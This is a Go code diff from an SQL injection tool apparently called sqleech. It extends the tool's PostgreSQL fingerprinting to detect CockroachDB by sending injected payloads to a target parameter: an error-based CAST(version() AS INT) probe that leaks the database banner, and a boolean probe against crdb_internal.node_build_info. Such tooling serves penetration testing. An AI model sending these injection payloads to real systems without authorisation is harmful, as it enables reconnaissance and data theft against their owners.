@@ -2,13 +2,27 @@ package fingerprint
 
 import (
 	"context"
+	"regexp"
+	"strings"
 
 	"github.com/0x6d61/sqleech/internal/detector"
 )
 
 // PostgreSQLFingerprinter identifies PostgreSQL backends through behavioural probing.
+// Once a PostgreSQL-dialect backend is identified it also tells CockroachDB
+// apart, which speaks the same dialect; payloads for either come from the
+// PostgreSQL family.
 type PostgreSQLFingerprinter struct{}
 
+// castBannerPattern captures the value an integer cast of version() leaks
+// in PostgreSQL's or CockroachDB's wording of the cast error.
+var castBannerPattern = regexp.MustCompile(`(?:invalid input syntax for type integer: |could not parse )"([^"]+)"`)
+
+// pgVersionPattern matches the version in a PostgreSQL or CockroachDB
+// version() banner: "PostgreSQL 15.2 (Debian ...) on ..." or
+// "CockroachDB CCL v23.1.11 (x86_64-pc-linux-gnu, ...)".
+var pgVersionPattern = regexp.MustCompile(`^(PostgreSQL|CockroachDB)\b[^0-9]*?v?(\d+(?:\.\d+){0,2})`)
+
 // DBMS returns the name of the target DBMS.
 func (p *PostgreSQLFingerprinter) DBMS() string {
 	return "PostgreSQL"
@@ -25,6 +39,11 @@ func (p *PostgreSQLFingerprinter) DBMS() string {
 //   - pg_sleep(0) accepted:          +0.1
 //   - ::int cast works:              +0.1
 //   - CURRENT_SETTING test works:    +0.1
+//
+// An identified backend is reported as CockroachDB when the quote probe
+// shows a CockroachDB error signature, when the version() banner leaked
+// through a cast error names CockroachDB, or, with neither available, when
+// the CockroachDB-only crdb_internal.node_build_info table can be read.
 func (p *PostgreSQLFingerprinter) Fingerprint(ctx context.Context, req *FingerprintRequest) (*FingerprintResult, error) {
 	result := &FingerprintResult{
 		DBMS: "PostgreSQL",
@@ -51,7 +70,7 @@ func (p *PostgreSQLFingerprinter) Fingerprint(ctx context.Context, req *Fingerpr
 		return nil, err
 	}
 
-	if responseSimilar(req.Baseline, sleepResp) {
+	if responseSimilar(req, sleepResp) {
 		confidence += 0.1
 	}
 
@@ -62,7 +81,7 @@ func (p *PostgreSQLFingerprinter) Fingerprint(ctx context.Context, req *Fingerpr
 		return nil, err
 	}
 
-	if responseSimilar(req.Baseline, castResp) {
+	if responseSimilar(req, castResp) {
 		confidence += 0.1
 	}
 
@@ -73,7 +92,7 @@ func (p *PostgreSQLFingerprinter) Fingerprint(ctx context.Context, req *Fingerpr
 		return nil, err
 	}
 
-	if responseSimilar(req.Baseline, settingResp) {
+	if responseSimilar(req, settingResp) {
 		confidence += 0.1
 	}
 
@@ -84,6 +103,70 @@ func (p *PostgreSQLFingerprinter) Fingerprint(ctx context.Context, req *Fingerpr
 
 	result.Confidence = confidence
 	result.Identified = confidence >= 0.7
+	if !result.Identified {
+		return result, nil
+	}
+
+	// --- CockroachDB: error signatures, then the version banner, then an
+	// active probe when the target shows no errors ---
+	if matches, ok := sqlErrors["CockroachDB"]; ok && len(matches) > 0 {
+		result.DBMS = "CockroachDB"
+	}
+	if err := p.probeBanner(ctx, req, result); err != nil {
+		return nil, err
+	}
+	if result.Banner == "" && result.DBMS != "CockroachDB" {
+		crdb, err := p.probeCockroachDB(ctx, req)
+		if err != nil {
+			return nil, err
+		}
+		if crdb {
+			result.DBMS = "CockroachDB"
+		}
+	}
 
 	return result, nil
 }
+
+// probeBanner leaks version() through an integer cast error and, when the
+// target reflects it, sets the banner, version and PostgreSQL-dialect name.
+func (p *PostgreSQLFingerprinter) probeBanner(ctx context.Context, req *FingerprintRequest, result *FingerprintResult) error {
+	payload := req.Parameter.Value + " AND 1=CAST(version() AS INT)-- -"
+	resp, err := sendProbe(ctx, req.Client, req.Target, req.Parameter, payload)
+	if err != nil {
+		return err
+	}
+	match := castBannerPattern.FindStringSubmatch(string(resp.Body))
+	if match == nil {
+		return nil
+	}
+	banner := strings.TrimSpace(match[1])
+	version := pgVersionPattern.FindStringSubmatch(banner)
+	if version == nil {
+		return nil
+	}
+	result.DBMS = version[1]
+	result.Version = version[2]
+	result.Banner = banner
+	return nil
+}
+
+// probeCockroachDB reads crdb_internal.node_build_info, a table only
+// CockroachDB has, in an always-true condition. CockroachDB leaves the page
+// unchanged while PostgreSQL errors out; the always-false control rules
+// out a page that ignores the condition altogether.
+func (p *PostgreSQLFingerprinter) probeCockroachDB(ctx context.Context, req *FingerprintRequest) (bool, error) {
+	probe, err := sendProbe(ctx, req.Client, req.Target, req.Parameter,
+		req.Parameter.Value+" AND (SELECT COUNT(*) FROM crdb_internal.node_build_info)>0-- -")
+	if err != nil {
+		return false, err
+	}
+	if !responseEqual(req.Baseline, probe) {
+		return false, nil
+	}
+	control, err := sendProbe(ctx, req.Client, req.Target, req.Parameter, req.Parameter.Value+" AND 1=2-- -")
+	if err != nil {
+		return false, err
+	}
+	return !responseEqual(req.Baseline, control), nil
+}